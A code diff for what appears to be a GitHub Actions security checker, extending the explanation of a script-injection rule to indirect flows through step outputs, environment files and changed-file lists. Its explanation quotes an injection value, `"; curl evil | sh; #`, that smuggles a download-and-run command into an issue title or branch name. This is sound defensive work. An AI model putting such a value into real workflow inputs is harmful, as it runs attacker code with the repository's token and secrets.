@@ -35,7 +35,11 @@ var rules = []checks.Rule{
 		ID: RuleInjection, Title: "Attacker-controlled text expanded into a script", Severity: checks.SeverityHigh, Family: "actions",
 		Why: "`${{ }}` is expanded into the script before the shell or JavaScript runs it. An issue title, PR body, " +
 			"comment, branch name or commit message such as `\"; curl evil | sh; #` becomes code running with the " +
-			"workflow's token and secrets.",
+			"workflow's token and secrets. The same holds one hop away: a step that writes such a value to " +
+			"$GITHUB_OUTPUT or $GITHUB_ENV (or core.setOutput / core.exportVariable), an env: entry holding it, " +
+			"or a job output built from it, later expanded as ${{ steps.<id>.outputs.<name> }}, ${{ env.NAME }} " +
+			"or ${{ needs.<job>.outputs.<name> }}; file lists from tj-actions/changed-files and " +
+			"dorny/paths-filter carry names the pull request's author chose.",
 		Fix:        "Pass the value through an environment variable and quote it; never interpolate it into code.",
 		FixExample: "- env:\n    TITLE: ${{ github.event.issue.title }}\n  run: echo \"$TITLE\"",
 		References: []string{"CWE-94", "CWE-78", "https://securitylab.github.com/resources/github-actions-untrusted-input/"},
